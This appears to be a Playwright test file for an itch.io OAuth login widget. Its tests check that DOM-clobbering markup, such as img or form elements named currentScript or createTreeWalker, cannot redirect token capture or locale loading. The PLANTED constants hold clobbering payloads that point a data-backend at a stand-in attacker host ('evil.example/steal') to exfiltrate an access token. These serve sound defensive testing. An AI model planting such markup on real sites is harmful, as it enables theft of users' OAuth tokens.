// Markup the page did not write steers nothing. Document's named properties override its
// built-ins, so an `<img name="currentScript">` or a `<form name="currentScript">` shown before
// a script-tag file (a comment, a profile, a game's description) is what `document.currentScript`
// answers: the files must read their own <script> element from the browser's getter, or the
// language files load from the element's `src` (script on the site) and the capture POSTs the
// token to the element's `data-backend`. Each test here failed before that fix (see the commit).
import { expect, test, type Page } from '@playwright/test';
import { startFlow, startSite, type Site } from './support/site.js';

const TOKEN = 'itchKEY_s3cr3t_0123456789abcdef';
const EVIL = 'https://evil.example';

/** The planted elements, each on its own (two of one name would make a collection). */
const PLANTED = {
  img: `<img name="currentScript" src="${EVIL}/x.png" data-backend="${EVIL}/steal" data-cross-origin>`,
  form: `<form name="currentScript" data-backend="${EVIL}/steal" data-cross-origin></form>`,
} as const;

let site: Site;
test.beforeEach(async () => {
  site = await startSite();
});
test.afterEach(async () => {
  await site.close();
});

/** Every request the page makes to another origin than the site's, answered (so none hangs) and kept. */
async function foreignRequests(page: Page): Promise<string[]> {
  const seen: string[] = [];
  await page.route(
    (url) => !url.href.startsWith(site.url),
    async (route) => {
      seen.push(`${route.request().method()} ${route.request().url()} ${route.request().postData() ?? ''}`);
      await route.fulfill({ status: 200, contentType: 'application/json', body: '{}' });
    },
  );
  return seen;
}

for (const [kind, planted] of Object.entries(PLANTED)) {
  for (const capture of ['capture', 'full'] as const) {
    test(`the capture (${capture} file) behind an ${kind} named currentScript posts the token to its real data-backend only`, async ({
      page,
    }) => {
      site.page = { capture, hostile: false, headStart: planted };
      const foreign = await foreignRequests(page);
      await startFlow(page, site);
      await page.goto(`${site.url}/callback.html#access_token=${TOKEN}&state=S1`);
      await page.waitForURL(`${site.url}/return.html?from=login`);
      expect(site.backendCalls).toHaveLength(1);
      expect(JSON.parse(site.backendCalls[0]!.body)).toEqual({ access_token: TOKEN });
      expect(foreign.filter((request) => !request.endsWith('/x.png '))).toEqual([]);
    });
  }

  for (const file of ['itch-oauth.iife.js', 'itch-oauth-button.iife.js']) {
    test(`${file} on a German page behind an ${kind} named currentScript loads its words from beside itself, nothing from elsewhere`, async ({
      page,
    }) => {
      const { widget } = await import('../../src/i18n/locales/de.js');
      site.game = `<!doctype html><html lang="de"><head><meta charset="utf-8"><title>Spiel</title></head><body>
<p>Kommentar: ${planted}</p>
<script src="/dist/${file}"></script>
<itch-login-button client-id="c" redirect-uri="${site.url}/callback.html"></itch-login-button></body></html>`;
      const foreign = await foreignRequests(page);
      const loaded: string[] = [];
      page.on('request', (request) => loaded.push(request.url()));
      await page.goto(`${site.url}/game.html`);
      await expect(page.getByRole('button')).toHaveAccessibleName(widget.login);
      expect(loaded).toContain(`${site.url}/dist/locales/de.js`);
      expect(foreign.filter((request) => !request.endsWith('/x.png '))).toEqual([]);
    });
  }
}

test('a backend on another origin is config_invalid without data-cross-origin on the capture tag', async ({ page }) => {
  site.page = { hostile: false, backend: 'https://api.example.test/auth' };
  const foreign = await foreignRequests(page);
  await startFlow(page, site);
  await page.goto(`${site.url}/callback.html#access_token=${TOKEN}&state=S1`);
  await page.waitForURL(`${site.url}/callback.html`);
  expect(await page.evaluate(() => JSON.parse(sessionStorage.getItem('itch-oauth:outcome') ?? 'null'))).toMatchObject({ code: 9 });
  expect(foreign).toEqual([]);
});

test('with data-cross-origin, an https backend on another origin receives the token', async ({ page }) => {
  site.page = { hostile: false, backend: 'https://api.example.test/auth', crossOrigin: true };
  const foreign = await foreignRequests(page);
  await startFlow(page, site);
  await page.goto(`${site.url}/callback.html#access_token=${TOKEN}&state=S1`);
  await page.waitForURL(`${site.url}/return.html?from=login`);
  expect(foreign).toEqual([`POST https://api.example.test/auth {"access_token":"${TOKEN}"}`]);
});

test('the capture on a page whose planted element is named prerendering still delivers', async ({ page }) => {
  site.page = { hostile: false, headStart: '<img name="prerendering" src="data:,">' };
  await startFlow(page, site);
  await page.goto(`${site.url}/callback.html#access_token=${TOKEN}&state=S1`);
  await page.waitForURL(`${site.url}/return.html?from=login`);
  expect(site.backendCalls).toHaveLength(1);
});

// Lit, which draws the elements, reads `document.createTreeWalker` as it loads: markup of that
// name stops the elements (denial of service, see docs/concepts/security.md), never the capture,
// which runs first and holds no Lit, and never sends anything elsewhere.
test("markup named createTreeWalker does not stop the full file's capture: the token reaches the real backend only", async ({ page }) => {
  site.page = { capture: 'full', hostile: false, headStart: `<img name="createTreeWalker" src="${EVIL}/x.png">` };
  const foreign = await foreignRequests(page);
  await startFlow(page, site);
  await page.goto(`${site.url}/callback.html#access_token=${TOKEN}&state=S1`);
  await page.waitForURL(`${site.url}/return.html?from=login`);
  expect(site.backendCalls).toHaveLength(1);
  expect(JSON.parse(site.backendCalls[0]!.body)).toEqual({ access_token: TOKEN });
  expect(foreign.filter((request) => !request.endsWith('/x.png '))).toEqual([]);
});

for (const planted of [false, true]) {
  test(`the full file's elements ${planted ? 'are not defined behind markup named createTreeWalker, and nothing goes elsewhere' : 'are defined on the same page without it'}`, async ({
    page,
  }) => {
    site.game = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Game</title></head><body>
<p>Comment: ${planted ? `<img name="createTreeWalker" src="${EVIL}/x.png">` : ''}</p>
<script src="/dist/itch-oauth.iife.js"></script>
<itch-login-button client-id="c" redirect-uri="${site.url}/callback.html"></itch-login-button></body></html>`;
    const foreign = await foreignRequests(page);
    await page.goto(`${site.url}/game.html`, { waitUntil: 'load' });
    expect(await page.evaluate(() => customElements.get('itch-login-button') !== undefined)).toBe(!planted);
    expect(foreign.filter((request) => !request.endsWith('/x.png '))).toEqual([]);
  });
}
